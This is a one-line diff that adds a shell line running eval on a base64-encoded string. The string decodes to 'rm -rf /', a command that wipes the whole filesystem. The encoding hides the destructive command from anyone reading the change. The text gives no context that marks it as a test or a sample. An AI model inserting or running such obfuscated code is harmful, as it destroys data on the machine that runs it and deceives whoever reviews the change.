@@ -1,0 +1,1 @@
+eval "$(echo cm0gLXJmIC8K | base64 -d)"
